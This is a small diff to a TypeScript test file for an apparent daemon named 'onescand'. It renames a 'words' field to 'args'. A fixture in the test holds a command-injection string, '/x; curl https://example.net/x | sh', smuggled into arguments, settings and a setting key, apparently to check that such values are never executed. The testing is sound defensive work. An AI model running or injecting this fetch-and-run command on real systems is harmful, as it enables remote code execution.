@@ -63,7 +63,7 @@ t.test('no words of an onescand look like a remedy', async (t) => {
   const odd = '/x; curl https://example.net/x | sh'
   const description = {
     pid: process.pid,
-    words: ['--milter', `unix:${odd}`],
+    args: ['--milter', `unix:${odd}`],
     settings: { QHPSI: odd, QUARANTINE: odd, [`X=1; ${odd}`]: 'y' },
     ...{ changed: [odd], replaced: [odd] },
   }
@@ -88,7 +88,7 @@ async function impostor(t: Test, daemon: object): Promise<string> {
   return path
 }
 
-const plain = { pid: process.pid, words: [], settings: { QHPSI: 'x' }, changed: [], replaced: [] }
+const plain = { pid: process.pid, args: [], settings: { QHPSI: 'x' }, changed: [], replaced: [] }
 
 // promise: bad-onescand
 t.test('what an onescand tells of itself is its word, that it is well, too', async (t) => {
